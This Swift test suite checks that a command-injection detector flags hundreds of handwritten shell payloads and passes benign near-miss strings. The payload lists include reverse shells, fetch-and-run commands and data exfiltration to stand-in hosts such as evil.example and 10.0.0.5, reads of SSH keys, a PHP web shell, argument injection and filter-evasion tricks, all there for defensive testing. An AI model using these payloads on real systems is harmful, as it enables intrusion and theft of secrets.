import GuardInspect
import Testing

/// Command injection written for these tests from the technique families (separators,
/// substitutions, blank tricks, quoting, globbing, redirections, Windows shells), not
/// taken from the corpus. Each must be flagged as cmdi; the near misses must stay clean.
@Suite struct ShellVariantTests {
    static func classes(_ payload: String) -> Set<DetectorClass> {
        Set(Inspector().inspect(payload: payload, location: "/queryStringParameters/host").findings.map(\.detectorClass))
    }

    static let attacks: [String] = [
        // separators
        "example.org;id", "example.org; id;", "example.org|id", "example.org || id", "example.org && id",
        "example.org & whoami &", "example.org\nid", "example.org\r\nuname -a", "10.1.1.1%0aid", "10.1.1.1%0d%0aid",
        "example.org;uname\t-a", "x;  /usr/bin/id", "x | /bin/hostname", "x&&/sbin/ifconfig",
        // substitutions
        "$(id)", "x$(uname -a)y", "`id`", "file`whoami`.txt", "\"$(id)\"", "'`hostname`'", "a$( sleep 4 )b",
        "$(sleep${IFS}6)", "<(id)", "x >(nc 10.2.3.4 9001)",
        // blanks
        ";cat${IFS}/etc/group", ";cat$IFS$9/etc/group", ";cat$IFS/etc/group", "a;sleep${IFS}7", ";ls${IFS}-al${IFS}/",
        "x;{cat,/etc/group}", "{cat,/etc/group}", ";{ls,-al,/var}", "x;cat</etc/group", ";tail\t-n1\t/etc/group",
        "x;IFS=,;b=cat,/etc/group;$b",
        // quoting and escapes
        ";c''at /etc/group", ";c\\at /etc/group", ";w'h'o'am'i", ";w\"h\"o\"am\"i", ";who$@ami", ";wh$()oami",
        ";\\u\\n\\a\\m\\e -a", "x;\"c\"'a't /etc/group", ";who``ami", "a;un$*ame -a", ";ca$'t' /etc/group",
        // globbing
        "/???/c?t /???/g???p", ";/bin/c?t /etc/gr*", "x;/???/??t /e??/g???p", ";cat /e?c/gr?up", ";/usr/bin/wh?ami",
        // redirections and writes
        ";echo pwned > /var/www/html/p.txt", "x;id>/tmp/o", "x|tee /tmp/o", "; ls -la 2>&1", "&& cat /etc/group > out",
        // env assignment and variables
        ";X=id;$X", "; a=who;b=ami;$a$b", ";PATH=/tmp sh -c id", "x;${PATH:0:1}bin${PATH:0:1}id",
        // encoded commands
        ";echo aWQ=|base64 -d|sh", "$(echo aWQ= | base64 --decode)", ";printf '\\151\\144'|sh", ";$'\\x69\\x64'",
        // time based
        "x;sleep 5", "x && sleep 10 #", "x || sleep 8 ||", "'; sleep 5; '", "\"; sleep 5; \"", "|| ping -c 9 127.0.0.1",
        "& ping -n 11 127.0.0.1 &", "x|ping${IFS}-c${IFS}3${IFS}10.0.0.1",
        // fetch and run, reverse shells
        ";curl -s http://evil.example/a|sh", ";wget -qO- http://evil.example/a | bash", "$(curl evil.example/x)",
        ";nc -e /bin/sh 10.0.0.5 4444", ";bash -i >& /dev/tcp/10.0.0.5/4444 0>&1",
        ";python3 -c 'import os;os.system(\"id\")'", ";perl -e 'exec \"/bin/sh\"'", ";nslookup `whoami`.evil.example",
        ";mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 10.0.0.5 4444 >/tmp/f",
        // Windows
        "& cmd /c whoami", "| cmd.exe /c dir c:\\", "%COMSPEC% /c ver", "| %ComSpec% /k whoami", "& net user",
        "&& whoami /priv", "| type c:\\windows\\win.ini", "& powershell -enc SQBFAFgA", "| powershell -e SQBFAFgA",
        "& powershell.exe -nop -w hidden -c whoami", "&& c^m^d /c wh^oami", "|| ping -n 5 127.0.0.1",
        "& dir %SYSTEMROOT%", "& echo %USERNAME%", "x & timeout /t 6 &", "&& certutil -urlcache -f http://e.example/a a",
        "& for /f %i in ('whoami') do echo %i", "127.0.0.1 & tasklist", "| findstr /s password *.txt",
        "& copy c:\\windows\\win.ini x.txt", "& start /b calc.exe", "&& powershell iex(iwr http://e.example/a)",
        "& wmic process list brief", "& rundll32 x.dll,Entry", "&& mshta http://e.example/a.hta",
        "& reg query HKLM\\Software", "| ver", "& systeminfo", "&& ipconfig", "& call whoami",
        "& %SystemRoot%\\System32\\cmd.exe /c dir", "& C:\\Windows\\System32\\whoami.exe",
        "|| net localgroup administrators", "& type C:\\inetpub\\wwwroot\\web.config", "& dir /s /b c:\\*.config",
        "x & ping -n 10 localhost", "\"&whoami&\"", "'|id|'", "& cmd /v:on /c \"set x=who&&!x!ami\"",
        // more POSIX
        "\nwhoami", "x||whoami", "x|whoami|", "x&id&", ";id;#", ";ec\"\"ho hi", ";un'a'me -a", ";u\\name -a",
        "x;{echo,aWQ=}|{base64,-d}|bash", "x;cat$(echo /etc/group)", ";/u?r/b?n/i?", ";LD_PRELOAD=/tmp/x.so ls",
        ";eval \"$(echo aWQ=|base64 -d)\"", ";exec id", ";sh<<<id", ";bash<<<$(base64 -d<<<aWQ=)",
        ";/bin/busybox nc 10.0.0.5 80 -e sh", ";nc 10.0.0.5 80 < /etc/group", ";curl -d @/etc/group http://e.example",
        "$(</etc/group)", ";{sleep,5}", ";sleep$IFS'5'", "x;echo${IFS}test>/tmp/x", ";echo hello >> ~/.bashrc",
        ";cat /etc/group|base64", ";id>&2", "x;ls -la /home", "x;find / -name '*.conf'", ";touch /tmp/pwn",
        ";chmod +x /tmp/s;/tmp/s", ";./s.sh", "x; head -n 3 /etc/group", ";crontab -l", "|| sleep 3 &",
        "%250aid", "x%253Bid", "%26%26whoami",
        // sixth batch: tools beyond the usual names, and commands nobody lists
        "x;rsync -a /etc/ 10.0.0.5::loot", "x;jq -r . /etc/group", "x|git -c core.pager=id log", "x;ionice -c3 id",
        "x;vigr", "$(aria2c -o /tmp/x http://e.example/x)", "x;{rsync,-a,/etc/,e.example:x}", "x;exiftool /etc/group",
        "x;frobnicate -rf /etc/group", "x|zork /etc/group", "x&&blorp --dump /var/log/auth.log",
        // fifth batch: cmd.exe substrings, PowerShell forms, variable assembly
        "x;cat${IFS}${HOME:0:1}etc${HOME:0:1}group", "x;a=c;b=at;$a$b /etc/group", "x;$(tr '!-~' 'P-~!-O' <<< 9:5)",
        "x;`tr a-z n-za-m <<< vq`", "x & set x=whoami&& call %x%", "x & %COMSPEC:~-7,1%", "x & echo %PROGRAMFILES:~10,5%",
        "x; iex(iwr e.example/a)", "x; IEX (IWR e.example)", "x; Invoke-Expression 'whoami'",
        "x;[System.Diagnostics.Process]::Start('calc')", "x;$env:comspec /c whoami", "x | & $env:ComSpec /c ver",
        // whole-value commands (the parameter is passed to a shell as is)
        "cat /etc/group", "whoami", "uname -a", "ls -la /", "nc -e /bin/sh 10.0.0.5 4444", "wget http://e.example/x.sh -O /tmp/x.sh",
        "curl http://e.example/x | sh", "ping -c 10 127.0.0.1", "sleep 5", "powershell -enc SQBFAFgA", "cmd /c dir",
        "net user", "type c:\\windows\\win.ini", "/bin/cat /etc/group", "cat$IFS/etc/group",
        "python -c 'import pty;pty.spawn(\"/bin/sh\")'", "php -r 'system(\"id\");'", "id;", "ifconfig -a",
        "echo aWQ= | base64 -d | bash", "rm -rf /tmp/x", "netstat -tulpn", "ps -ef", "whoami /all", "ipconfig /all",
        "tasklist /v", "systeminfo", "bash -c id", "sh -i", "nslookup e.example", "dir c:\\", "cat /proc/version",
        // fourth batch
        "x;c${u}at /etc/group", "x;ca$@t /etc/group", "x|`echo${IFS}aWQ=|base64${IFS}-d`", "x;$(rev<<<'di')",
        "x;echo${IFS}-e${IFS}'\\x69\\x64'|sh", "x;cat /etc/gr[o]up", "x;cat /etc/gro?p", "x;tac /etc/group",
        "x;nl /etc/group", "x;more /etc/group", "x;less</etc/group", "x;xxd /etc/group", "x;base64 /etc/group",
        "x;rev /etc/group", "x\nid\n", "x\n/bin/id", "x;uname${IFS}-a${IFS}#", "&&i\\d", "x & WHOAMI",
        "x;ls -la | nc 10.0.0.5 80", "x;ls${IFS}-la|nc${IFS}10.0.0.5${IFS}80", "x; php -r 'echo 1;'", "x;id #note",
        "x;/usr/bin/env sh", "x;exec 5<>/dev/tcp/10.0.0.5/80", "x & curl http://e.example -o c:\\x.exe",
        "x&&%windir%\\system32\\calc.exe", "x|cmd /c type c:\\x", "x & powershell -w hidden -nop -ep bypass -f s.ps1",
        "x&&ver>nul", "& ping -n 1 e.example & whoami", "() { ignored;}; echo; /usr/bin/id",
        "%2524%2528id%2529", "x%3Bid",
        // third batch: mid-value, quoting contexts, interpreters, exfiltration
        "foo.txt; cat /etc/group #", "test.jpg`sleep 5`", "127.0.0.1\n\nid", "127.0.0.1%0d%0awhoami",
        "a;$(printf${IFS}'\\x69\\x64')", ";w\\h\\o\\a\\m\\i", ";/b'i'n/c'a't /etc/group", ";\"/bin/cat\" /etc/group",
        ";'id'", "x;(id)", "x;{ id; }", "x&&(sleep 5)", "x;i\\d", "x;`echo id`", "x|$(id)",
        "x;tr 'a-z' 'A-Z' < /etc/group", "x;awk 'BEGIN{system(\"id\")}'", "x;sed -n 1p /etc/group",
        "x;php -r 'system(\"id\");'", "x;ruby -e 'puts `id`'", "x;node -e 'require(\"child_process\").execSync(\"id\")'",
        "x;socat tcp:10.0.0.5:4444 exec:sh", "x;telnet 10.0.0.5 4444 | /bin/sh | telnet 10.0.0.5 4445",
        "x;dig +short $(whoami).e.example", "x;host $(id -u).e.example", "x;curl e.example/$(whoami)",
        "x;wget --post-file=/etc/group e.example", "x;ls -la /root/.ssh/", "x;cat ~/.ssh/id_rsa",
        "x;cat /proc/self/environ", "x;kill -9 1", "x;ps aux", "x;uname", "x;hostname", "x;env", "x;netstat -an",
        "x;ifconfig", "x;id -un", ";sleep 5&", "';id;'", "\";id;\"", "')|id|('", "\"|whoami|\"", "'&&sleep 4&&'",
        "x|powershell -c \"Start-Sleep 5\"", "x & powershell -command \"& {whoami}\"", "x&&ping -n 10 127.0.0.1>nul",
        "x&echo %COMPUTERNAME%", "x & type %WINDIR%\\win.ini", "x & cmd /c \"ping -n 6 127.0.0.1\"", "x & wh^o^am^i",
        "x & \"whoami\"", "x|w\"h\"oami", "x & nslookup e.example", "x & bitsadmin /transfer j http://e.example/a c:\\a.exe",
        "x & schtasks /query", "x & sc query", "x & net view", "x & taskkill /f /im x.exe", "x & del /f /q c:\\x",
        "x & more c:\\boot.ini", "x & ver", "x;cat${IFS:0:1}/etc/group", "x;$0 -c id", "x;sh -c 'id'",
        "x;bash -c \"$(echo aWQ=|base64 -d)\"", "() { :; }; /bin/bash -c id", "x;python -m http.server 8000",
        // a code span glued to a word is not prose markup
        "a `uname -a`x and some more words",
        // recon tools alike (dmidecode was listed both strong and args-only; the later won)
        "x; dmidecode", "x; lshw",
    ]

    @Test(arguments: attacks + moreAttacks)
    func detects(_ payload: String) {
        #expect(Self.classes(payload).contains(.cmdi), "cmdi missed: \(payload)")
    }

    static let nearMisses: [String] = [
        "Tom & Jerry; Bugs & Daffy", "rock & roll | pop & jazz", "AT&T", "salt & pepper", "Q&A; FAQ",
        "The cat sat on the mat", "I need to sleep; it is late", "ping me when you are ready",
        "Who am I? A question", "price: $5 | $10", "Hello $name, welcome", "{name,age}", "{\"a\":1}",
        "100% organic; gluten free", "date: 2024-01-02", "see /docs/install for details", "C&A sale",
        "ls is a command; use it wisely", "Ben & Jerry's", "email me at a@b.example", "set the table",
        "type your name", "find the best route", "echo of the past", "Press Ctrl+C to copy",
        "x=1&y=2", "a | b | c", "R&B", "Mum & Dad; Grandma & Grandpa", "the id of the user",
        "deals; more > $5 off", "ratio; time > 5 min", "1 & 2 > 3", "pros; cons < /2", "kill the lights; sleep -ish",
        "see ./README.md for more", "A=1; B=2", "ps: see you", "size > 10 & < 20", "one; two > three",
        "I cat my thoughts; sleep on it", "make sure & check", "who am i", "the ls command lists files",
        "Terms & Conditions; Privacy | Cookies", "Sun & Moon | Stars", "ping pong", "find me", "sort by name",
        "He said: \"I'm done; bye\"", "a;b;c", "1;2;3", "x|y|z", "key=value;other=thing", "N/A", "TBD; see notes",
        "R&D | Sales & Marketing", "Hello; how are you?", "date & time", "head & shoulders", "dir: left",
        "50%: ~half", "ratio 3:~4", "env: production", "$env is set", "call me; sleep tight", "IEX (Investors Exchange) listing",
        "{view,edit,delete}", "{install,remove}", "view; install", "Quick links; view all", "Plan: red | green",
        "Note; see -- /etc is a folder", "mode; -v for verbose",
        // a tool's verb only as a whole word
        "Thanks; net used for fishing", "see above; reg queryable fields", "ps: auxiliary notes; ps auxiliaries",
    ]

    @Test(arguments: nearMisses + moreNearMisses)
    func passes(_ payload: String) {
        #expect(!Self.classes(payload).contains(.cmdi), "flagged: \(payload)")
    }

    /// Seventh batch, written for the generalization pass from the technique families rather than
    /// from any corpus miss: more of the recon vocabulary, Windows program names and switches,
    /// compound commands, command lines handed to other commands, history and `.` sourcing,
    /// argument injection into ordinary tools, reverse shells wherever they stand, network tools
    /// given a host, subcommand tools, prefixes with options, and cmd.exe verbs with objects.
    static let moreAttacks: [String] = [
        // recon vocabulary
        "x;df -h", "x;du -sh /var", "x;free -m", "x;lsblk", "x;getconf -a", "x;pstree", "x;md5sum /etc/group",
        "x & getmac", "x & driverquery", "x & gpresult /r", "x;ip a", "x;ip addr show", "x | ip route", "ip addr",
        // Windows programs by file name, UNC and variable paths, switches glued to the name
        "x & certutil.exe -urlcache -split -f http://e.example/a.exe", "x & payload.exe",
        "| \\\\10.0.0.5\\s\\nc.exe -e cmd.exe 10.0.0.5 4444", "x & %TEMP%\\x.exe", "x && \\\\e.example\\share\\run.bat",
        "x & whoami/priv", "x&dir/s", "x|ipconfig/all", "x & tasklist/v",
        // compound commands
        "x;for i in 1 2; do id; done", "x;while true; do sleep 5; done", "x;if [ -f /etc/group ]; then id; fi",
        // a command line given to another command
        "x;trap 'rm -rf /tmp/x' EXIT", "x;at 2:00 \"echo hi\"", "x;eval 'cat /etc/group'", "x;su -c 'id'", "x;eval id",
        // history, sourcing, a shell fed on its input, ANSI-C escapes
        "x;!!", "x; !-2", "x|!5", "x;. /tmp/x", "x;. ~/.profile", "x;$0<<<id", "x;$'\\151\\144'",
        // argument injection
        "--checkpoint=1 --checkpoint-action=exec=sh x.sh", "-oProxyCommand=\"sh -c id\" a@b", "--upload-pack=touch /tmp/x",
        "--use-compress-program=id", "-OQueueDirectory=/tmp -X/var/www/html/x.php", "-exec id ;", "--to-command=id",
        "x -o ProxyCommand=id y",
        // netcat told to run a program, wherever it stands
        "a b ncat 10.0.0.5 4444 -e /bin/bash", "nc.exe 10.0.0.5 443 -e cmd.exe",
        // network tools given a host, markers, subcommand tools
        "x;host e.example", "x;whois e.example", "x;ssh localhost id", "x;ping localhost", "x;echo pwned", "x;printf pwned",
        "x;git clone https://e.example/x", "x;docker run -v /:/mnt alpine", "x;tar czf /tmp/a.tgz /etc", "x;tmux new -d id",
        // prefixes with options, programs under a variable directory
        "x;stdbuf -o0 id", "x;taskset 1 id", "x;nice -n 19 id", "x;setarch x86_64 id", "x;$HOME/x.sh", "x;${TMPDIR}/run",
        // cmd.exe verbs with their objects, writes to a script or text file, start
        "x & route print", "x & query user", "x & net config workstation", "x & copy con x.bat", "x & ren a.txt a.bat",
        "x & del x.txt", "x & echo open 10.0.0.5 21> ftp.txt", "x;echo '<?php system($_GET[1]);' > s.php",
        "x & start calc", "x & start /b x.exe", "x & start cmd",
        // brace expansion of a path, a substitution that runs a variable
        "x;{/bin/sh,-c,id}", "$($c)", "<?=`$_GET[0]`?>",
        // whole values
        "df -h", "free -m", "ps aux", "find / -name passwd", "find . -type f -perm -4000", "./x.sh", "rc script.sh",
        "perl run.pl", "getmac", "driverquery", "x;fetch http://e.example/x", "x;./x", "x && ./configure --prefix=/tmp",
        // substitutions of commands nobody lists, paths with empty and dot segments, more cmd.exe and builtins
        "x$(frob)", "x;$(frob -x /tmp)", "a=$(frob)", "'$(frob)'", "x>(frob)", "x;/usr//bin///id", "x;/usr/./bin/./id",
        "route print", "sc query", "x & sc qc x", "x;pushd /tmp", "x;pidof sshd", "x;mkfs.ext4 /dev/sda1",
        "x;setenforce 0", "x;ufw disable", "x;command id", "x;pkexec id",
        // commands run from code and documents: language calls, Ruby %x, Ghostscript %pipe%, spreadsheet DDE
        "subprocess.getoutput('id')", "pty.spawn(\"/bin/sh\")", "Process.Start(\"cmd.exe\", \"/c whoami\")",
        "new ProcessBuilder(\"id\").start()", "Open3.capture2(\"id\")", "%x(id)", "%x{id}", "(%pipe%id) (w) file",
        "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    ]

    /// Near misses for the seventh batch: languages and tools named in prose, Windows paths
    /// whose `\n` unescapes to a newline, "then"/"do" in English, fractions and abbreviations
    /// with slashes, links ending in a shell's name, jQuery, cmd.exe verbs as words.
    static let moreNearMisses: [String] = [
        // From review: a dotted name is not a command family; these words are English first.
        "Node.js developer", "Docker.io registry", "java.io tutorial", "curl.se is the site", "deno.land page",
        "shred the documents", "parted ways with him", "pinky promise", "typeset the book", "Hallo; du bist toll",
        "Perl & Python", "Java; C#; Go; Rust", "Node.js & Deno", "Python 3.12; Ruby 3.3", "sed & awk",
        "Cat & Dog; Bird | Fish", "calc & notepad are Windows apps", "Calc.exe crashed again", "notepad.exe vs notepad++",
        "C:\\Program Files\\nodejs\\node.exe", "C:\\temp\\new folder\\run.bat", "nodejs\\node.exe", "java\\node.exe",
        "If you're tired; then sleep", "Mix flour; then add eggs; then bake", "Thanks for coming; do come again",
        "ip address & subnet mask", "IP route planning", "Tom's \"best\" pizza; open 24/7", "Results: 5/10; 24/7 support",
        "sleep 8 hours; drink water", "ping 8.8.8.8 returns fine; DNS is slow", "`npm run build` failed; see log",
        "see /r/linux; /r/bash", "$($el).hide()", "host: e.example; user: bob", "start menu; control panel",
        "start date & end date", "Session started at 12:00 & ended at 13:00", "w/ friends; w/o kids", "CD/DVD drive",
        "PS/2 keyboard", "cat/dog lovers; bird people", "Q&A; copy & paste", "Step 1; copy the file",
        "Meeting at 10:00; then lunch at 12:00", "eval: 95%; test: 90%", "Hello\\nWorld", "Name:\\nBob\\nAge:\\n42",
        "the file ./config is missing; check ./logs", "Run ./configure then make", "Home | Cat Toys | Dog Beds",
        "$USD/EUR rate; see chart", "Physics & Calc", "Tags: docker; git; npm", "Plan A | Plan B; plan C",
        "Mum; Dad; Sis & Bro", "I'm free; call me", "Download the setup; run it", "report|final.pdf", "backup;2024.tar.gz",
        "ren faire & fair; see you", "del Mar; del Rey", "Move fast & break things; move on", "Rename the file; copy it",
        "query: users; sort: name", "Route 66; route planning", "Echo Park; Echo chamber",
        "| Name | Type |\n|------|------|\n| id | int | https://maps.example.com/",
        "route print & scan documents", "query user & group info", "Use $(selector) to find elements", "$(this).toggle()",
        "$(window).on('load', f)", "Version $(Build.BuildNumber)", "all: $(OBJ)", "x = $(wildcard *.c)",
        "Command center; builtin oven", "Sync & backup; factor in costs",
        "Terms | 'quoted' text", "=SUM(A1:A3)", "=HYPERLINK(\"https://e.example\")", "Process started; system design",
        "Open3 is a Ruby module", "printf('%x(%d)', a, b)", "-2+3 = 1 | 'ok'", "Q: what is DDE? A: dynamic data exchange",
    ]

    /// Values inside structured text: XML attribute values and text nodes of an XML body, and
    /// `key=value` pairs inside a header such as a Referer. (location, header or content type, payload)
    static func eventClasses(_ location: String, _ extra: String, _ payload: String) -> Set<DetectorClass> {
        let sample = CorpusSample(
            id: "variant", label: "cmdi", location: location, payload: payload, encoded: nil, part: nil, param: "q",
            header: location == "header" ? extra : nil, contentType: location == "body" ? extra : nil, source: "test")
        let r = Inspector().inspect(event: EventBuilder.bytes(EventBuilder.v2(sample)))
        return Set(r.findings.map(\.detectorClass))
    }

    static let structuredAttacks: [(String, String, String)] = [
        ("body", "application/xml", "<a probe=\"~+\"></a>"), ("body", "application/xml", "<a probe=\"~-1\"/>"),
        ("body", "application/xml", "<a probe=\"!-2\"/>"), ("body", "application/xml", "<root><cmd>ls -la /etc</cmd></root>"),
        ("body", "text/xml", "<r x=\"uname -a\"/>"), ("header", "referer", "https://e.example/?args=perf --version"),
        ("header", "referer", "https://e.example/?x=cat /etc/group"), ("header", "x-test", "q=uname -a"),
        ("query", "", "~2"), ("query", "", "!-1"),
    ]

    @Test func detectsInStructuredText() {
        for (location, extra, payload) in Self.structuredAttacks {
            #expect(Self.eventClasses(location, extra, payload).contains(.cmdi), "cmdi missed: \(payload)")
        }
    }

    static let structuredNearMisses: [(String, String, String)] = [
        ("body", "application/xml",
         "<?xml version=\"1.0\"?><order><item sku=\"A-1\" qty=\"2\">Cat food</item><note>Leave at door; thanks</note></order>"),
        ("body", "application/xml", "<root><cmd>help</cmd><mode>list</mode><q>ping pong</q><t>sleep well</t></root>"),
        ("body", "application/xml", "<svg><text x=\"10\" y=\"20\">~-1 approx</text></svg>"),
        ("body", "application/xml", "<p>Wow!!</p>"), ("header", "referer", "https://e.example/search?q=cat+videos&page=2"),
        ("header", "referer", "https://e.example/?cmd=help&id=5"), ("header", "accept", "text/html;q=0.9,*/*;q=0.8"),
        ("header", "forwarded", "for=192.0.2.4;proto=https"), ("header", "x-test", "a=who&b=type&mode=find"),
        ("header", "referer", "https://e.example/?next=/admin/users&tab=groups"), ("query", "", "~ 5"), ("query", "", "!!"),
    ]

    @Test func passesStructuredText() {
        for (location, extra, payload) in Self.structuredNearMisses {
            #expect(!Self.eventClasses(location, extra, payload).contains(.cmdi), "flagged: \(payload)")
        }
    }
}
